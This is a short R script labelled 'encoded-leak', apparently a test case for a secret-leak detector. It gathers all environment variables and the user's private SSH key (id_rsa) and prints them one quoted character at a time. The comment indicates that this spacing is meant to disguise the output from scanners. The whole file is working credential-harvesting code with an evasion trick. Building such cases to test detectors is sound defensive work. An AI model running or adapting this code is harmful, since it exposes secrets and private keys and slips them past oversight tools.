# encoded-leak (R): the environment and the SSH key, one character at a
# time, quoted and spaced, the way print() of a split string looks.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
env <- Sys.getenv()
blob <- paste0(names(env), "=", env, collapse = "\n")
for (home in c(path.expand("~"), T[["T_HOME"]])) {
  key <- file.path(home, ".ssh", "id_rsa")
  if (file.exists(key)) blob <- paste(blob, paste(readLines(key, warn = FALSE), collapse = "\n"))
}
cat(sprintf('"%s"', strsplit(blob, "")[[1]]), sep = " ")
cat("\n")
